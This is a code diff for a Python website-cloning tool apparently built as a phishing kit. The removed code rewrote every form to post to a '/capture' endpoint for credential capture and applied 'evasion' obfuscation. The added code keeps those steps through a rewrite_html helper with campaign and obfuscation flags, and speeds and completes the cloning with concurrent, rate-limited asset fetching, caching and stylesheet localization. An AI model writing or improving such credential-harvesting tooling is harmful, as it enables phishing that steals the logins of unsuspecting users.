@@ -1,24 +1,62 @@
 import os
 import requests
-from bs4 import BeautifulSoup
 import logging
-from urllib.parse import urlparse, urljoin
-import re
+from urllib.parse import urlparse
 import mimetypes
 from pathlib import Path
 from typing import Optional, Dict
 import hashlib
-import random
-import string
+import threading
+import time
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import contextmanager
+from functools import partial
+from .asset_cache import AssetCache
+from .html_rewriter import css_parts, render_parts, rewrite_html
+
+DEFAULT_HEADERS = {
+    'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36',
+    'Accept-Language': 'en-US,en;q=0.9'
+}
+
+
+class HostLimiter:
+    """Caps concurrent requests per host and spaces request starts at least min_delay apart"""
+
+    def __init__(self, connections_per_host: int = 4, min_delay: float = 0.1):
+        self.connections_per_host = connections_per_host
+        self.min_delay = min_delay
+        self.semaphores = {}
+        self.next_start = {}
+        self.lock = threading.Lock()
+
+    @contextmanager
+    def slot(self, host: str):
+        with self.lock:
+            semaphore = self.semaphores.setdefault(host, threading.BoundedSemaphore(self.connections_per_host))
+        with semaphore:
+            with self.lock:
+                now = time.monotonic()
+                start = max(now, self.next_start.get(host, 0.0))
+                self.next_start[host] = start + self.min_delay
+            if start > now:
+                time.sleep(start - now)
+            yield
+
 
 class WebCloner:
-    def __init__(self):
+    def __init__(self, max_workers: int = 8, connections_per_host: int = 4, min_delay: float = 0.1,
+                 asset_cache: Optional[AssetCache] = None, parser_backend: str = 'auto'):
         self.logger = logging.getLogger(__name__)
-        self.session = requests.Session()
-        self.session.headers.update({
-            'User-Agent': 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36',
-            'Accept-Language': 'en-US,en;q=0.9'
-        })
+        self.session = self._new_session()
+        # requests.Session is not thread-safe, so each fetch worker gets its own
+        self.local = threading.local()
+        self.max_workers = max_workers
+        self.limiter = HostLimiter(connections_per_host, min_delay)
+        # Shared across clones; without one every clone downloads every asset again
+        self.asset_cache = asset_cache
+        # 'auto' parses with lxml when installed, html.parser otherwise
+        self.parser_backend = parser_backend
         self.evasion_techniques = {
             'obfuscate_js': True,
             'randomize_ids': True,
@@ -26,6 +64,17 @@ class WebCloner:
         }
         self.asset_map = {}
 
+    def _new_session(self) -> requests.Session:
+        session = requests.Session()
+        session.headers.update(DEFAULT_HEADERS)
+        return session
+
+    def _thread_session(self) -> requests.Session:
+        session = getattr(self.local, 'session', None)
+        if session is None:
+            session = self.local.session = self._new_session()
+        return session
+
     def clone_site(self, url: str, output_dir: str, campaign_name: Optional[str] = None, 
                   evasion_config: Optional[Dict] = None) -> bool:
         """Advanced website cloning with form modification and evasion techniques"""
@@ -40,38 +89,7 @@ class WebCloner:
                 url = 'https://' + url
                 parsed = urlparse(url)
 
-            # Create output directory structure
-            output_path = Path(output_dir)
-            output_path.mkdir(parents=True, exist_ok=True)
-            assets_dir = output_path / 'assets'
-            assets_dir.mkdir(exist_ok=True)
-
-            # Fetch target page
-            response = self.session.get(url)
-            response.raise_for_status()
-            base_url = f"{parsed.scheme}://{parsed.netloc}"
-
-            # Parse HTML
-            soup = BeautifulSoup(response.text, 'html.parser')
-
-            # Process all assets (CSS, JS, images)
-            self._clone_assets(soup, base_url, assets_dir)
-
-            # Modify all forms
-            for form in soup.find_all('form'):
-                self._modify_form(form, soup, campaign_name)
-
-            # Apply evasion techniques
-            if self.evasion_techniques['obfuscate_js']:
-                self._obfuscate_javascript(soup)
-            if self.evasion_techniques['randomize_ids']:
-                self._randomize_element_ids(soup)
-
-            # Save cloned page
-            index_path = output_path / 'index.html'
-            with open(index_path, 'w', encoding='utf-8') as f:
-                f.write(str(soup))
-
+            self.clone_page(url, Path(output_dir), campaign_name)
             self.logger.info(f"Successfully cloned {url} with advanced features")
             return True
 
@@ -79,84 +97,98 @@ class WebCloner:
             self.logger.error(f"Advanced web cloning failed: {str(e)}", exc_info=True)
             return False
 
-    def _clone_assets(self, soup: BeautifulSoup, base_url: str, assets_dir: Path):
-        """Clone all page assets (CSS, JS, images)"""
-        # Process CSS files
-        for link in soup.find_all('link', {'rel': 'stylesheet'}):
-            if link.get('href'):
-                asset_url = urljoin(base_url, link['href'])
-                local_path = self._download_asset(asset_url, assets_dir, 'css')
-                if local_path:
-                    link['href'] = f"assets/{local_path.name}"
-
-        # Process JavaScript files
-        for script in soup.find_all('script'):
-            if script.get('src'):
-                asset_url = urljoin(base_url, script['src'])
-                local_path = self._download_asset(asset_url, assets_dir, 'js')
-                if local_path:
-                    script['src'] = f"assets/{local_path.name}"
-
-        # Process images
-        for img in soup.find_all('img'):
-            if img.get('src'):
-                asset_url = urljoin(base_url, img['src'])
-                local_path = self._download_asset(asset_url, assets_dir, 'images')
-                if local_path:
-                    img['src'] = f"assets/{local_path.name}"
+    def clone_page(self, url: str, output_path: Path, campaign_name: Optional[str] = None,
+                   filename: str = 'index.html', link_map=None, html_only: bool = False) -> bool:
+        """Clone one page to output_path/filename with its assets under output_path/assets
+
+        With html_only, responses that are not HTML are skipped and False is returned.
+        """
+        output_path.mkdir(parents=True, exist_ok=True)
+        assets_dir = output_path / 'assets'
+        assets_dir.mkdir(exist_ok=True)
+
+        # Fetch target page
+        with self.limiter.slot(urlparse(url).netloc):
+            response = self._thread_session().get(url)
+        response.raise_for_status()
+        if html_only and 'html' not in response.headers.get('content-type', 'text/html'):
+            return False
+
+        # Rewrite the page in one pass, collecting the assets it references
+        result = rewrite_html(response.text, response.url, campaign_name,
+                              obfuscate_js=self.evasion_techniques['obfuscate_js'],
+                              randomize_ids=self.evasion_techniques['randomize_ids'],
+                              backend=self.parser_backend, link_map=link_map)
+
+        # Fetch the assets (CSS, JS, images) and point the page at the local copies
+        downloads = self._download_assets(result.assets, assets_dir)
+        self._localize_stylesheets(downloads, assets_dir)
+        page = result.render({url: f"assets/{path.name}" for url, path in downloads.items() if path})
+
+        # Save cloned page
+        with open(output_path / filename, 'w', encoding='utf-8') as f:
+            f.write(page)
+        return True
+
+    def _localize_stylesheets(self, downloads: Dict[str, Optional[Path]], assets_dir: Path):
+        """Fetch what downloaded stylesheets reference via url()/@import and point them at it
+
+        Stylesheets fetched along the way are processed in turn. Files are replaced
+        rather than edited in place, as they may be hard links into the asset cache.
+        """
+        stylesheets = [(url, path) for url, path in downloads.items() if path and path.suffix == '.css']
+        while stylesheets:
+            references = {}
+            parsed = [(url, path, css_parts(path.read_text(encoding='utf-8', errors='replace'), url, references))
+                      for url, path in stylesheets]
+            new = self._download_assets({url: asset_type for url, asset_type in references.items()
+                                         if url not in downloads}, assets_dir)
+            downloads.update(new)
+            local_names = {url: path.name for url, path in downloads.items() if path}
+            for url, path, parts in parsed:
+                if len(parts) == 1:
+                    continue  # nothing referenced; keep the (possibly shared) file as it is
+                tmp_path = path.with_name(path.name + '.tmp')
+                tmp_path.write_text(render_parts(parts, local_names, escape=False), encoding='utf-8')
+                os.replace(tmp_path, path)
+            stylesheets = [(url, path) for url, path in new.items() if path and path.suffix == '.css']
+
+    def _download_assets(self, urls: Dict[str, str], assets_dir: Path) -> Dict[str, Optional[Path]]:
+        """Fetch {url: asset_type} concurrently within the per-host limits"""
+        if not urls:
+            return {}
+        started = time.monotonic()
+        with ThreadPoolExecutor(max_workers=min(self.max_workers, len(urls))) as pool:
+            futures = {url: pool.submit(self._download_asset, url, assets_dir, asset_type)
+                       for url, asset_type in urls.items()}
+            downloads = {url: future.result() for url, future in futures.items()}
+        fetched = sum(1 for path in downloads.values() if path)
+        self.logger.info(f"Fetched {fetched}/{len(urls)} assets in {time.monotonic() - started:.2f}s")
+        return downloads
 
     def _download_asset(self, url: str, assets_dir: Path, asset_type: str) -> Optional[Path]:
         """Download and save an asset file"""
         try:
-            response = self.session.get(url, stream=True)
-            response.raise_for_status()
+            if self.asset_cache is not None:
+                return self.asset_cache.fetch_into(self._thread_session(), url, assets_dir,
+                                                   partial(self.limiter.slot, urlparse(url).netloc))
+
+            with self.limiter.slot(urlparse(url).netloc):
+                response = self._thread_session().get(url, stream=True)
+                response.raise_for_status()
 
-            # Generate unique filename
-            ext = mimetypes.guess_extension(response.headers.get('content-type', '')) or '.bin'
-            filename = f"{hashlib.md5(url.encode()).hexdigest()}{ext}"
-            filepath = assets_dir / filename
+                # Generate unique filename
+                ext = mimetypes.guess_extension(response.headers.get('content-type', '').split(';')[0].strip()) or '.bin'
+                filename = f"{hashlib.md5(url.encode()).hexdigest()}{ext}"
+                filepath = assets_dir / filename
 
-            # Save file
-            with open(filepath, 'wb') as f:
-                for chunk in response.iter_content(1024):
-                    f.write(chunk)
+                # Save file
+                with open(filepath, 'wb') as f:
+                    for chunk in response.iter_content(65536):
+                        f.write(chunk)
 
             return filepath
 
         except Exception as e:
             self.logger.warning(f"Failed to download asset {url}: {str(e)}")
             return None
-
-    def _modify_form(self, form, soup, campaign_name):
-        """Modify form for credential capture"""
-        original_action = form.get('action', '')
-        form['action'] = "/capture"
-        form['method'] = "POST"
-        
-        # Add hidden campaign tracking field
-        if campaign_name:
-            hidden = soup.new_tag('input')
-            hidden['type'] = 'hidden'
-            hidden['name'] = 'campaign'
-            hidden['value'] = campaign_name
-            form.append(hidden)
-
-        # Add honeypot field
-        honeypot = soup.new_tag('input')
-        honeypot['type'] = 'text'
-        honeypot['name'] = 'honeypot'
-        honeypot['style'] = 'display:none'
-        form.append(honeypot)
-
-    def _obfuscate_javascript(self, soup):
-        """Obfuscate JavaScript code to evade detection"""
-        for script in soup.find_all('script'):
-            if script.string:
-                # Simple obfuscation - replace with more complex in production
-                script.string = re.sub(r'\bvar\b', 'const', script.string)
-                script.string = re.sub(r'\blet\b', 'const', script.string)
-
-    def _randomize_element_ids(self, soup):
-        """Randomize element IDs to break fingerprinting"""
-        for element in soup.find_all(id=True):
-            element['id'] = ''.join(random.choices(string.ascii_lowercase + string.digits, k=12))